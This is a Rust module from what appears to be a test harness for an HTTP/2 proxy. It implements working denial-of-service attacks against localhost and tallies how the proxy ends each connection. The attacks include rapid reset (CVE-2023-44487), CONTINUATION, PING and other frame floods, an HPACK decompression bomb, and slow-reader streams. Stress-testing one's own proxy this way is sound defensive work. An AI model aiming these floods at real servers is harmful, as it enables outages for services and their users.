//! The attacks, each from one connection at a time, opened again as soon as the proxy ends it,
//! for as long as the attack lasts: floods of frames (sent in batches a millisecond apart, the
//! count of frames written checked against the GOAWAY as it arrives), and connections that hold
//! a large answer (a stream never read, a slow reader). What each connection met is kept.

use std::collections::BTreeMap;
use std::io::{ErrorKind, Read, Write};
use std::net::{Ipv4Addr, Shutdown, TcpStream};
use std::thread;
use std::time::{Duration, Instant};

use super::frames::*;

/// The attacks, in the order they run.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, clap::ValueEnum)]
pub enum Attack {
    /// No attack: connections alone (the preface and SETTINGS, then closed), at the attacks'
    /// pace, for what the connections themselves cost the others.
    Connections,
    /// Streams opened and reset at once (CVE-2023-44487).
    RapidReset,
    /// Streams opened, let reach the server for 5 ms, then reset.
    RapidResetServed,
    /// A HEADERS without END_HEADERS, then CONTINUATION frames that never end it.
    Continuation,
    Settings,
    Ping,
    /// Empty DATA frames on a POST whose body never comes.
    EmptyData,
    WindowUpdate,
    /// PRIORITY frames for ever new idle streams.
    Priority,
    /// An HPACK dynamic table size update above the advertised size.
    HpackTableSize,
    /// One large field put in the HPACK table and referred to by one byte, over and over, in
    /// the same block.
    HpackBomb,
    /// A 1 MiB answer asked with a window of 0, never read.
    NeverRead,
    /// A 1 MiB answer read at 20 KB/s (1,000 bytes of window every 50 ms).
    SlowReader,
}

impl Attack {
    pub const ALL: [Attack; 13] = [
        Attack::Connections,
        Attack::RapidReset,
        Attack::RapidResetServed,
        Attack::Continuation,
        Attack::Settings,
        Attack::Ping,
        Attack::EmptyData,
        Attack::WindowUpdate,
        Attack::Priority,
        Attack::HpackTableSize,
        Attack::HpackBomb,
        Attack::NeverRead,
        Attack::SlowReader,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Attack::Connections => "connections alone (no attack)",
            Attack::RapidReset => "rapid reset",
            Attack::RapidResetServed => "rapid reset after 5 ms",
            Attack::Continuation => "CONTINUATION flood",
            Attack::Settings => "SETTINGS flood",
            Attack::Ping => "PING flood",
            Attack::EmptyData => "empty DATA flood",
            Attack::WindowUpdate => "WINDOW_UPDATE flood",
            Attack::Priority => "PRIORITY flood",
            Attack::HpackTableSize => "HPACK table size over the limit",
            Attack::HpackBomb => "HPACK bomb",
            Attack::NeverRead => "stream never read",
            Attack::SlowReader => "slow reader (20 KB/s)",
        }
    }

    /// Whether the attack holds a connection open (its outcome a reset of the stream, or
    /// nothing) rather than floods it until GOAWAY.
    pub fn holds(self) -> bool {
        matches!(self, Attack::NeverRead | Attack::SlowReader)
    }

    /// Whether it sends frames until herdsman ends it (and so has frames to count).
    pub fn floods(self) -> bool {
        !self.holds() && self != Attack::Connections
    }

    /// Frames written between two looks at whether the GOAWAY came.
    fn batch(self) -> usize {
        match self {
            // Each of these is answered after a frame or two: one at a time, so the count is
            // exact; a rapid reset after 5 ms waits between its frames.
            Attack::RapidResetServed
            | Attack::Continuation
            | Attack::HpackTableSize
            | Attack::HpackBomb => 1,
            _ => 20,
        }
    }

    /// What opens each of its connections.
    fn opening(self) -> Vec<u8> {
        let settings = |pairs: &[(u16, u32)]| {
            let payload: Vec<u8> = pairs
                .iter()
                .flat_map(|(id, value)| [&id.to_be_bytes()[..], &value.to_be_bytes()[..]].concat())
                .collect();
            frame(SETTINGS, 0, 0, &payload)
        };
        let mut bytes = PREFACE.to_vec();
        match self {
            Attack::NeverRead | Attack::SlowReader => {
                // INITIAL_WINDOW_SIZE 0: no byte of an answer until the client says so.
                bytes.extend(settings(&[(4, 0)]));
                let block = get_block(GET, "/big");
                bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, 1, &block));
            }
            Attack::EmptyData => {
                bytes.extend(settings(&[]));
                let block = get_block(POST, "/upload");
                bytes.extend(frame(HEADERS, END_HEADERS, 1, &block));
            }
            Attack::Continuation => {
                bytes.extend(settings(&[]));
                // The last field's value says it is 1 MB long; the CONTINUATION frames never
                // bring the end.
                let mut block = get_block(GET, "/");
                block.extend_from_slice(&[0x40, 1, b'x']);
                hpack_int(0, 7, 1_000_000, &mut block);
                block.extend_from_slice(&[b'a'; 100]);
                bytes.extend(frame(HEADERS, END_STREAM, 1, &block));
            }
            _ => bytes.extend(settings(&[])),
        }
        bytes
    }

    /// Its `i`th frame (or frames) on a connection.
    fn frame(self, i: usize) -> Vec<u8> {
        let stream = |i: usize| u32::try_from(2 * i + 1).unwrap_or(1);
        match self {
            Attack::RapidReset => [
                frame(
                    HEADERS,
                    END_STREAM | END_HEADERS,
                    stream(i),
                    &get_block(GET, "/"),
                ),
                frame(RST_STREAM, 0, stream(i), &8u32.to_be_bytes()),
            ]
            .concat(),
            Attack::RapidResetServed if i.is_multiple_of(2) => frame(
                HEADERS,
                END_STREAM | END_HEADERS,
                stream(i / 2),
                &get_block(GET, "/"),
            ),
            Attack::RapidResetServed => {
                thread::sleep(Duration::from_millis(5));
                frame(RST_STREAM, 0, stream(i / 2), &8u32.to_be_bytes())
            }
            Attack::Continuation => frame(CONTINUATION, 0, 1, &[b'a'; 16_384]),
            Attack::Settings => frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]),
            Attack::Ping => frame(PING, 0, 0, &(i as u64).to_be_bytes()),
            Attack::EmptyData => frame(DATA, 0, 1, &[]),
            Attack::WindowUpdate => frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()),
            Attack::Priority => frame(PRIORITY, 0, stream(i), &[0, 0, 0, 0, 16]),
            Attack::HpackTableSize => {
                let mut block = Vec::new();
                hpack_int(0x20, 5, 100_000, &mut block);
                block.extend(get_block(GET, "/"));
                frame(HEADERS, END_STREAM | END_HEADERS, stream(i + 1), &block)
            }
            Attack::HpackBomb => {
                // A 4,000-byte field into the dynamic table (index 62), then referred to by one
                // byte a hundred times: some 400 KB decoded from 4 KB, in one block, so no
                // ordinary request comes first.
                let mut block = get_block(GET, "/");
                block.extend_from_slice(&[0x40, 6]);
                block.extend_from_slice(b"x-bomb");
                hpack_int(0, 7, 4000, &mut block);
                block.extend_from_slice(&[b'a'; 4000]);
                block.extend_from_slice(&[0xbe; 100]);
                frame(HEADERS, END_STREAM | END_HEADERS, stream(i), &block)
            }
            Attack::Connections | Attack::NeverRead | Attack::SlowReader => Vec::new(),
        }
    }
}

/// How one attacking connection ended.
#[derive(Debug, Clone)]
pub struct Ending {
    /// "GOAWAY ENHANCE_YOUR_CALM", "RST_STREAM CANCEL", "closed", "open at the end".
    pub how: String,
    /// Attack frames written before it (for a flood).
    pub frames: usize,
    /// From the connection's first byte to its end.
    pub took: Duration,
}

/// What an attack's connections met.
#[derive(Debug, Clone, Default)]
pub struct AttackTally {
    pub endings: Vec<Ending>,
}

impl AttackTally {
    /// How many connections ended each way, most first: "GOAWAY ENHANCE_YOUR_CALM ×312".
    pub fn ways(&self) -> Vec<(String, usize)> {
        let mut ways: BTreeMap<&str, usize> = BTreeMap::new();
        for ending in &self.endings {
            *ways.entry(&ending.how).or_default() += 1;
        }
        let mut ways: Vec<(String, usize)> = ways
            .into_iter()
            .map(|(how, n)| (how.to_string(), n))
            .collect();
        ways.sort_by_key(|(_, n)| std::cmp::Reverse(*n));
        ways
    }
}

/// Runs `attack` against 127.0.0.1:`port` until `until`, one connection at a time, each opened
/// as soon as the last ended but no sooner than `gap` after the last opened: a reconnect loop
/// without a pace is a connection flood, whose cost to the others is the kernel's (and any
/// proxy's) whatever HTTP/2 it carries.
pub fn run(attack: Attack, port: u16, until: Instant, gap: Duration) -> AttackTally {
    let mut tally = AttackTally::default();
    let mut next = Instant::now();
    loop {
        thread::sleep(next.saturating_duration_since(Instant::now()));
        // The next no sooner than `gap` after this one: at once after one that lasted longer,
        // with no burst to catch up.
        let now = Instant::now();
        if now >= until {
            break;
        }
        next = now + gap;
        let ending = match TcpStream::connect((Ipv4Addr::LOCALHOST, port)) {
            Ok(mut conn) if attack == Attack::Connections => {
                let _ = conn.write_all(&attack.opening());
                let _ = conn.shutdown(Shutdown::Both);
                Ending {
                    how: "closed by the attacker".into(),
                    frames: 0,
                    took: Duration::ZERO,
                }
            }
            Ok(conn) if attack.holds() => hold(attack, conn, until),
            Ok(conn) => {
                // As an attacker would: each batch goes at once, not held back by Nagle.
                let _ = conn.set_nodelay(true);
                flood(attack, conn, until)
            }
            Err(e) => Ending {
                how: format!("connect failed: {}", e.kind()),
                frames: 0,
                took: Duration::ZERO,
            },
        };
        tally.endings.push(ending);
    }
    tally
}

/// What a connection's reader saw: the first GOAWAY and the first RST_STREAM, each with when,
/// and whether the proxy closed.
#[derive(Default)]
struct Seen {
    goaway: Option<(String, Instant)>,
    reset: Option<(String, Instant)>,
    closed: bool,
    /// Read and not yet a whole frame.
    unread: Vec<u8>,
}

impl Seen {
    /// Reads the proxy's frames on `conn` for `time` (the pause between two batches, so the
    /// attacker needs no second thread to read), noting the first GOAWAY and RST_STREAM.
    fn read_for(&mut self, conn: &mut TcpStream, time: Duration) {
        let deadline = Instant::now() + time;
        let mut chunk = [0u8; 16_384];
        while !self.closed {
            let left = deadline.saturating_duration_since(Instant::now());
            if left.is_zero() || conn.set_read_timeout(Some(left)).is_err() {
                return;
            }
            let n = match conn.read(&mut chunk) {
                Ok(0) => {
                    self.closed = true;
                    return;
                }
                Ok(n) => n,
                Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => return,
                Err(_) => {
                    self.closed = true;
                    return;
                }
            };
            self.unread.extend_from_slice(&chunk[..n]);
            let mut frames = Vec::new();
            let used = parse_frames(&self.unread, &mut frames);
            self.unread.drain(..used);
            for frame in frames {
                let code = code_name(frame.error_code().unwrap_or(u32::MAX));
                let (slot, kind) = match frame.kind {
                    GOAWAY => (&mut self.goaway, "GOAWAY"),
                    RST_STREAM => (&mut self.reset, "RST_STREAM"),
                    _ => continue,
                };
                slot.get_or_insert_with(|| (format!("{kind} {code}"), Instant::now()));
            }
        }
    }
}

/// One flooding connection: frames (in batches a millisecond apart) until GOAWAY, the proxy's
/// close, a failed write, or `until`.
fn flood(attack: Attack, mut conn: TcpStream, until: Instant) -> Ending {
    let started = Instant::now();
    let mut seen = Seen::default();
    let mut frames = 0;
    let mut i = 0;
    let mut written = conn.write_all(&attack.opening()).is_ok();
    while written && Instant::now() < until && seen.goaway.is_none() && !seen.closed {
        let bytes: Vec<u8> = (i..i + attack.batch())
            .flat_map(|i| attack.frame(i))
            .collect();
        i += attack.batch();
        written = conn.write_all(&bytes).is_ok();
        if written {
            frames += count_frames(&bytes);
        }
        seen.read_for(&mut conn, Duration::from_millis(1));
    }
    // A connection the end of the attack cut is "open at the end", not closed by the proxy.
    let cut = Instant::now() >= until;
    let _ = conn.shutdown(Shutdown::Both);
    ending(seen.goaway, seen.closed && !cut, frames, started)
}

/// How a connection ended: `end` (what and when), else closed or still open.
fn ending(end: Option<(String, Instant)>, closed: bool, frames: usize, started: Instant) -> Ending {
    match end {
        Some((how, at)) => Ending {
            how,
            frames,
            took: at - started,
        },
        None => Ending {
            how: if closed { "closed" } else { "open at the end" }.into(),
            frames,
            took: started.elapsed(),
        },
    }
}

/// One connection holding a large answer: never read, or read slowly, until the proxy resets the
/// stream, sends GOAWAY or closes, or `until`.
fn hold(attack: Attack, mut conn: TcpStream, until: Instant) -> Ending {
    let started = Instant::now();
    let mut seen = Seen::default();
    let mut written = conn.write_all(&attack.opening()).is_ok();
    while written && Instant::now() < until {
        if seen.reset.is_some() || seen.goaway.is_some() || seen.closed {
            break;
        }
        if attack == Attack::SlowReader {
            let grant = [
                frame(WINDOW_UPDATE, 0, 0, &1000u32.to_be_bytes()),
                frame(WINDOW_UPDATE, 0, 1, &1000u32.to_be_bytes()),
            ]
            .concat();
            written = conn.write_all(&grant).is_ok();
        }
        seen.read_for(&mut conn, Duration::from_millis(50));
    }
    let _ = conn.shutdown(Shutdown::Both);
    ending(seen.reset.or(seen.goaway), seen.closed, 0, started)
}
